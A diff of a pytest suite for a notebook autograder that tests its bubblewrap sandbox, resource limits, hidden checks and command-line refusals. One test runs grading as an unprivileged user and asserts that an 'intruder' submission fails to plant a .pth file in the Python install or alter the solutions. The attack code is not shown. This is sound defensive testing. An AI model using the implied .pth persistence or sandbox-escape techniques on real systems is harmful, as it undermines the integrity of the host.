-    grading.grade_folder(subs, tmp_path / "one", reference_dir=graded["reference"].parent, cell_timeout=5,
-                         total_timeout=60, jobs=1, memory_mb=600, sandboxed=SANDBOX_PROBLEM is None)
+    for name in ("alice_07_demo.ipynb", "bob_07_demo.ipynb", "frank_07_demo.ipynb"):
+        (subs / name).write_bytes((graded["subs"] / name).read_bytes())
+    grade.grade_folder(subs, tmp_path / "one", _settings(course), jobs=1)
 
     def table(path):
-        return [{k: v for k, v in row.items() if k != "seconds" and not (k == "detail" and "peak memory" in v)}
+        return [{k: v for k, v in row.items() if k not in ("seconds", "detail")}
                 for row in csv.DictReader(path.open())]
 
-    two = [row for row in table(graded["report"] / "report.csv") if row["notebook"] in {p.name for p in subs.iterdir()}]
+    two = [row for row in table(graded["report"] / "report.csv") if row["file"] in {p.name for p in subs.iterdir()}]
     assert table(tmp_path / "one" / "report.csv") == two
     assert (tmp_path / "one" / "gradebook.csv").read_text().splitlines()[0] == \
         "student,07_demo: Exercise 1 (/1),07_demo: Exercise 2 (/1),autograded total,manual points to grade"
 
 
-def test_names_that_sanitise_alike_get_their_own_scratch_folders(graded, tmp_path):
+@needs_sandbox
+def test_limits_without_cgroups_fall_back_and_say_so(course, graded, tmp_path):
+    """Where no cgroup can be made: the memory watch and RLIMIT_NPROC, and the report says which."""
     subs = tmp_path / "subs"
     subs.mkdir()
-    nb = _answered(notebooks.read(graded["reference"]))
-    nb.cells.insert(2, nbformat.v4.new_code_cell(
-        "import os, pathlib\nassert not pathlib.Path('mine.txt').exists(), 'another submission wrote here'\n"
-        "pathlib.Path('mine.txt').write_text('x')\nimport time; time.sleep(1)"))
-    for name in ("ann a_07_demo.ipynb", "ann+a_07_demo.ipynb"):
-        nbformat.write(nb, subs / name)
-    results = grading.grade_folder(subs, tmp_path / "out", reference_dir=graded["reference"].parent,
-                                   cell_timeout=10, total_timeout=60, jobs=2, memory_mb=600,
-                                   sandboxed=SANDBOX_PROBLEM is None)
-    assert [(r.name, r.status, r.first_error) for r in results] == \
-        [("ann a_07_demo.ipynb", "ran", ""), ("ann+a_07_demo.ipynb", "ran", "")]
+    for name in ("alice_07_demo.ipynb", "zz_hog_07_demo.ipynb"):
+        (subs / name).write_bytes((graded["subs"] / name).read_bytes())
+    results = {r.name: r for r in grade.grade_folder(subs, tmp_path / "out", _settings(course, use_cgroups=False),
+                                                        jobs=2)}
+    assert results["alice_07_demo.ipynb"].earned == 2.0
+    hog = results["zz_hog_07_demo.ipynb"]
+    assert hog.usage["enforced_by"].startswith("fallback: resident memory sampled every 0.05 s; tasks by RLIMIT_NPROC")
+    assert hog.status.startswith("memory limit exceeded") and hog.usage["memory_mb"] > 600
 
 
-def test_hidden_checks_award_or_withhold_points(graded, tmp_path):
-    hidden = tmp_path / "hidden" / "07_demo"
-    hidden.mkdir(parents=True)
-    (hidden / "product.py").write_text("# exercise: Exercise 1\nassert product == 6 * 7 and base == 6\n")
-    (hidden / "root.py").write_text("# exercise: Exercise 2\nassert isinstance(root, int), 'a hidden check'\n")
-    subs = tmp_path / "subs"
-    subs.mkdir()
-    (subs / "alice_07_demo.ipynb").write_bytes((graded["subs"] / "alice_07_demo.ipynb").read_bytes())
-    [r] = grading.grade_folder(subs, tmp_path / "out", reference_dir=graded["reference"].parent, cell_timeout=10,
-                               total_timeout=60, jobs=1, memory_mb=600, sandboxed=SANDBOX_PROBLEM is None,
-                               hidden_dir=tmp_path / "hidden")
-    assert r.points == {"Exercise 1": (1.0, 1.0), "Exercise 2": (0.0, 1.0)}
-    assert "hidden check 2: AssertionError: a hidden check" in _rows(r)["Exercise 2"].detail
-    (hidden / "bad.py").write_text("assert True\n")
-    with pytest.raises(ValueError, match=r"bad.py does not name its exercise: start it with a line '# exercise: "):
-        grading.hidden_tests(tmp_path / "hidden", graded["reference"])
+@pytest.mark.skipif(os.geteuid() != 0 or SANDBOX_PROBLEM is not None, reason="needs root, to become a normal user")
+def test_the_sandbox_holds_for_an_unprivileged_grader(course, graded, tmp_path):
+    """The same grading run by a normal user (uid 65534): the sandbox, its limits and the checks still hold."""
+    work = Path(grade.tempfile.mkdtemp(prefix="grading-as-user-"))
+    try:
+        os.chown(work, 65534, 65534)
+        subs = work / "subs"
+        subs.mkdir()
+        for name in ("alice_07_demo.ipynb", "zz_intruder_07_demo.ipynb", "zz_swallow_07_demo.ipynb"):
+            (subs / name).write_bytes((graded["subs"] / name).read_bytes())
+        import shutil
+
+        shutil.copytree(course[0] / "course", work / "course")
+        for path in [subs, *work.rglob("*")]:
+            os.chown(path, 65534, 65534)
+        base = work
+        script = (f"import sys; sys.path.insert(0, {str(ROOT)!r})\n"
+                  "from pathlib import Path\nfrom course_utils.grading import grade, sandbox\n"
+                  "from course_utils.grading.limits import Limits\n"
+                  "assert sandbox.bwrap_problem() is None, sandbox.bwrap_problem()\n"
+                  f"s = grade.Settings(reference_dir=Path({str(work / 'course' / 'notebooks' / 'student')!r}), "
+                  f"checks_dir=Path({str(base / 'course' / 'checks')!r}), cell_timeout=5, total_timeout=60, "
+                  "limits=Limits(memory_mb=600, tasks=128))\n"
+                  f"rs = grade.grade_folder(Path({str(subs)!r}), Path({str(work / 'out')!r}), s, jobs=2, "
+                  f"protect=[Path({str(subs)!r})])\n"
+                  "print([(r.name, r.earned, r.usage.get('enforced_by')) for r in rs])\n")
+        # A normal user's Python is one that user can reach; this machine's may sit under /root (0700), so in
+        # a mount namespace of the test's own, /root becomes a tmpfs that holds only that Python.
+        python_home = Path(sys.base_prefix).resolve()
+        as_user = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable, "-c", script]
+        if str(python_home).startswith("/root/"):
+            shell = (f"mkdir -p {work}/py && mount --bind {python_home} {work}/py && "
+                     "mount -t tmpfs -o mode=0755 none /root && "
+                     f"mkdir -p {python_home} && mount --move {work}/py {python_home} && exec \"$@\"")
+            as_user = ["unshare", "-m", "--propagation", "private", "sh", "-c", shell, "sh", *as_user]
+        proc = subprocess.run(as_user, capture_output=True, text=True, timeout=300,
+                              env={**os.environ, "HOME": str(work), "TMPDIR": str(work)})
+        assert proc.returncode == 0, proc.stderr[-2000:]
+        seen = eval(proc.stdout.strip().splitlines()[-1])  # noqa: S307 - our own script's printout
+        # the intruder's attacks fail, and its answers (after them) are right
+        assert [(n, e) for n, e, _ in seen] == [("alice_07_demo.ipynb", 2.0), ("zz_intruder_07_demo.ipynb", 2.0),
+                                                ("zz_swallow_07_demo.ipynb", 0.0)]
+        assert all("RLIMIT_NPROC of the grader's uid, shared" in how for _, _, how in seen)
+        assert not list(Path(sys.prefix).rglob("zz_graded.pth"))
+        assert course[1].read_bytes() == graded["solution_before"]
+    finally:
+        subprocess.run(["rm", "-rf", str(work)])
 
 
-def test_self_check_runs_the_given_checks(graded, capsys):
-    r = grading.self_check(graded["subs"] / "bob_07_demo.ipynb", reference_dir=graded["reference"].parent,
-                           cell_timeout=10, total_timeout=60)
-    assert r.points == {"Exercise 1": (1.0, 1.0), "Exercise 2": (0.0, 1.0)}
+def test_self_check_runs_the_checks(graded, course, capsys):
+    r = grade.self_check(graded["subs"] / "bob_07_demo.ipynb", _settings(course))
+    assert _parts(r)["ex1_product"] == ("passed", 1.0) and _parts(r)["ex2_root"][0] == "failed"
     out = capsys.readouterr().out
     assert "bob_07_demo.ipynb: error at cell 8 (Exercise 2): ValueError: math domain error" in out
-    assert "  Exercise 1: checks passed [1 / 1 points]" in out
+    assert "  Exercise 1, ex1_product: passed [1 / 1 points]" in out
     with pytest.raises(FileNotFoundError, match="pass the path of your saved notebook"):
-        grading.self_check(graded["subs"] / "nobody.ipynb")
+        grade.self_check(graded["subs"] / "nobody.ipynb")
 
 
-def test_without_a_sandbox_grading_refuses_unless_told(monkeypatch, tmp_path, graded):
+def test_without_a_sandbox_grading_refuses_unless_told(monkeypatch, tmp_path, graded, course):
+    from course_utils.grading import cli
+
     monkeypatch.setattr(sandbox, "bwrap_problem", lambda: "bubblewrap (`bwrap`) is not installed.")
     with pytest.raises(RuntimeError, match=r"Cannot grade in a sandbox: bubblewrap .* or pass --no-sandbox"):
-        grading.grade_folder(graded["subs"], tmp_path / "out")
-    assert grading.main([str(graded["subs"]), "--out", str(tmp_path / "out")]) == 2
+        grade.grade_folder(graded["subs"], tmp_path / "out", _settings(course) if SANDBOX_PROBLEM else
+                           grade.Settings(reference_dir=course[2].parent))
+    assert cli.main([str(graded["subs"]), "--out", str(tmp_path / "out")]) == 2
     subs = tmp_path / "subs"
     subs.mkdir()
     (subs / "alice_07_demo.ipynb").write_bytes((graded["subs"] / "alice_07_demo.ipynb").read_bytes())
-    [r] = grading.grade_folder(subs, tmp_path / "out", reference_dir=graded["reference"].parent, cell_timeout=10,
-                               total_timeout=60, jobs=1, sandboxed=False)
-    assert r.sandboxed is False and all(row.sandboxed is False for row in r.rows)
-    assert "UNSANDBOXED" in r.rows[0].detail
-    assert {row["sandboxed"] for row in csv.DictReader((tmp_path / "out" / "report.csv").open())} == {"NO"}
+    settings = _settings(course)
+    settings.sandboxed = False
+    [r] = grade.grade_folder(subs, tmp_path / "out", settings, jobs=1)
+    assert r.sandboxed is False and r.earned == 2.0
+    rows = list(csv.DictReader((tmp_path / "out" / "report.csv").open()))
+    assert {row["sandboxed"] for row in rows} == {"NO"} and "UNSANDBOXED" in rows[0]["detail"]
 
 
 def test_command_line_refuses_bad_arguments(tmp_path, capsys):
+    from course_utils.grading import cli
+
     for argv, message in [([str(tmp_path / "none")], "is not a folder of submissions"),
                           ([str(tmp_path), "--jobs", "0"], "--jobs 0: the number of sandboxes at once must be 1"),
                           ([str(tmp_path), "--hidden-tests", str(tmp_path / "x")], "is not a folder: pass the folder")]:
         with pytest.raises(SystemExit):
-            grading.main(argv)
+            cli.main(argv)
         assert message in capsys.readouterr().err
 
 
-def test_points_come_from_headings_and_tasks():
-    nb = notebooks.read(ROOT / "notebooks" / "student" / "05_miniproject_cnn.ipynb")
-    points = grading.exercise_points(nb)
-    assert [(ex, p.total, p.bonus) for ex, p in points.items()] == [
-        ("Exercise 1", 6, 0), ("Exercise 2", 10, 0), ("Exercise 3", 10, 0), ("Exercise 4", 8, 2),
-        ("Exercise 5", 10, 2), ("Exercise 6", 10, 0)]
-    assert sum(p.total for p in points.values()) == 54 and sum(p.bonus for p in points.values()) == 4
-    assert (points["Exercise 1"].manual, points["Exercise 1"].auto) == (2, 4)   # "What does the title show?" (2 pts)
-    assert grading.exercise_points(notebooks.read(ROOT / "notebooks" / "student" / "02_first_mlp.ipynb")) == \
-        {"8. Exercise: an MLP for MNIST": grading.Points(4)}
+def test_importing_the_course_package_loads_none_of_the_grader():
+    code = "import sys, course_utils; print(sorted(m for m in sys.modules if m.startswith('course_utils.grading')))"
+    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=True).stdout
+    assert out.strip() == "[]"
 
 
-SETUP_SAVED = ("Python 3.12.1 | TensorFlow 2.19.0 | Keras 3.10.0\nDevice: GPU | seed 42\n"
-               "Mode: full | data: real\n")
-SETUP_FRESH = ("Python 3.11.7 | TensorFlow 2.21.0 | Keras 3.15.0\nDevice: CPU only | seed 42\n"
-               "Mode: full | data: real\n")
-
-
-@pytest.mark.parametrize("saved,fresh,trained,same", [
-    ("acc 0.8512\n", "acc 0.8514\n", False, True),
-    ("acc 0.85\n", "acc 0.99\n", False, False),
-    ("epoch 1 - 3s - 12ms/step\n", "epoch 1 - 9s - 40ms/step\n", False, True),
-    ("a b\n", "a c\n", False, False),
-    (SETUP_SAVED, SETUP_FRESH, False, True),                                   # versions and device
-    ("Epoch 1/2\n1500/1500 - 3s - loss: 0.51 - accuracy: 0.82\nEpoch 2/2\n1500/1500 - 3s - loss: 0.38\n"
-     "fit_cached: trained 'mlp' in 9.1 s; cached as mlp.json.\n",
-     "fit_cached: replayed 'mlp' from the cache (2 epochs, trained in 9.1 s).\n", True, True),
-    ("MNIST test accuracy 0.962\n", "MNIST test accuracy 0.951\n", True, True),  # a fresh training
-    ("MNIST test accuracy 0.962\n", "MNIST test accuracy 0.701\n", True, False),
-    ("model has 266610 parameters\n", "model has 266611 parameters\n", True, True),
-    ("(60000, 28, 28)\n", "(59000, 28, 28)\n", False, False),
-])
-def test_output_comparison_tolerates_honest_noise_not_changes(saved, fresh, trained, same):
-    cell = lambda text: {"outputs": [{"output_type": "stream", "name": "stdout", "text": text}]}  # noqa: E731
-    assert grading.outputs_match(grading.comparable_text(cell(saved)), grading.comparable_text(cell(fresh)),
-                                 trained) is same
-
-
-def test_changes_outside_are_reported_never_reverted(tmp_path):
-    folder = tmp_path / "course"
-    folder.mkdir()
-    (folder / "a.txt").write_text("old")
-    before = grading.snapshot(folder)
-    (folder / "a.txt").write_text("the instructor's edit")
-    (folder / "b.txt").write_text("new")
-    changes = grading.changes_since(folder, before, tmp_path / "kept")
-    assert (folder / "a.txt").read_text() == "the instructor's edit" and (folder / "b.txt").exists()
-    assert changes[0].startswith(f"modified {folder / 'a.txt'} (not undone; the previous version is in ")
-    assert changes[1] == f"created {folder / 'b.txt'} (not undone)"
-    assert (tmp_path / "kept" / (folder / "a.txt").relative_to("/")).read_text() == "old"
-
-
-@needs_sandbox
-def test_folders_under_tmp_stay_visible_in_the_sandbox(tmp_path):
-    """A clone, its venv or the datasets under /tmp (common on CI machines) are not hidden by the private /tmp."""
-    import subprocess
-
-    base = Path("/tmp") / f"sandbox-visible-{tmp_path.name}"
-    data, scratch = base / "data", base / "scratch"
-    (scratch / ".tmp").mkdir(parents=True)
-    data.mkdir()
-    (data / "x.txt").write_text("seen from inside\n")
-    try:
-        argv = sandbox.bwrap_argv(scratch, Path(grading.__file__).parent, {"PATH": "/usr/bin:/bin"}, readonly=[data])
-        proc = subprocess.run(argv + ["--", "sh", "-c", f"cat {data / 'x.txt'}; touch {data / 'y'} 2>/dev/null || echo read-only; ls /tmp"],
-                              capture_output=True, text=True, timeout=60)
-        assert proc.stdout.splitlines()[:2] == ["seen from inside", "read-only"], proc.stderr
-        assert not (data / "y").exists()
-    finally:
-        import shutil
-
-        shutil.rmtree(base)
+def _solved(stem):
+    """The published student version of ``stem`` with every solution and answer of the course put back."""
+    published = nbformat.read(ROOT / "notebooks" / "student" / f"{stem}.ipynb", as_version=4)
+    solution = notebooks.read(ROOT / "notebooks" / f"{stem}.ipynb")
+    assert len(published.cells) == len(solution["cells"])
+    for cell, solved in zip(published.cells, solution["cells"]):
+        if "raise NotImplementedError()" in cell.source or cell.source == student.ANSWER_PROMPT:
+            cell.source = notebooks.source(solved).replace(student.BEGIN + "\n", "").replace(student.END + "\n", "")
+    return published
 
 
 @pytest.mark.slow
-def test_real_notebook_02_correct_submission_gets_its_points(tmp_path):
-    """One reduced-mode run of the student version of notebook 02 with the exercise filled in (~25 s)."""
-    published = notebooks.read(ROOT / "notebooks" / "student" / "02_first_mlp.ipynb")
-    solution = notebooks.read(ROOT / "notebooks" / "02_first_mlp.ipynb")
-    nb = nbformat.reads(json.dumps(published), as_version=4)
-    for cell, solved in zip(nb.cells, solution["cells"]):
-        if cell.cell_type == "code" and "raise NotImplementedError()" in cell.source:
-            cell.source = notebooks.source(solved).replace(student.BEGIN + "\n", "").replace(student.END + "\n", "")
+@needs_sandbox
+@pytest.mark.parametrize("stem", ["02_first_mlp", "05_miniproject_cnn"])
+def test_the_course_solutions_earn_every_autograded_point(stem, tmp_path):
+    """The real notebooks, solved as the course solves them, graded in reduced mode (about 30 s and 70 s):
+    every check of the course passes on them, and an unanswered copy earns nothing."""
     subs = tmp_path / "subs"
     subs.mkdir()
-    nbformat.write(nb, subs / "alice_02_first_mlp.ipynb")
-    [r] = grading.grade_folder(subs, tmp_path / "out", cell_timeout=300, total_timeout=600, reduced=True,
-                               data="synthetic", jobs=1, sandboxed=SANDBOX_PROBLEM is None)
-    assert (r.status, r.first_error, r.unanswered, r.checks_failed, r.changed_given) == ("ran", "", [], [], [])
-    assert r.points == {"8. Exercise: an MLP for MNIST": (4.0, 4.0)}
-    book = list(csv.DictReader((tmp_path / "out" / "gradebook.csv").open()))
-    assert book == [{"student": "alice", "02_first_mlp: 8. Exercise: an MLP for MNIST (/4)": "4",
-                     "autograded total": "4", "manual points to grade": "0"}]
+    nbformat.write(_solved(stem), subs / f"alice_{stem}.ipynb")
+    (subs / f"bob_{stem}.ipynb").write_bytes((ROOT / "notebooks" / "student" / f"{stem}.ipynb").read_bytes())
+    settings = grade.Settings(cell_timeout=300, total_timeout=900, reduced=True, data="auto",
+                              limits=Limits(memory_mb=4096))
+    alice, bob = grade.grade_folder(subs, tmp_path / "out", settings, jobs=2)
+    assert (alice.status, alice.first_error, alice.unanswered, alice.changed_given) == ("ran", "", [], [])
+    on_stand_in = "STAND-IN DATA" in (tmp_path / "out" / "executed").joinpath(
+        f"{grade.safe_name(alice.name)}.ipynb").read_text()
+    failed = {p.grade_id: p.message for p in alice.parts if p.kind == "auto" and p.status != "passed"}
+    if on_stand_in:   # on the stand-in, the tuned CNN of 05 does not beat the naive one in 2 epochs
+        failed.pop("ex6_tuned", None)
+    assert failed == {}
+    assert alice.earned == sum(p.points for p in alice.parts if p.kind == "auto") - (4 if on_stand_in and
+                                                                                      stem.startswith("05") else 0)
+    assert bob.earned == 0 and all(p.status in ("unanswered", "awaiting grading by hand") for p in bob.parts)
 
 
 if __name__ == "__main__":
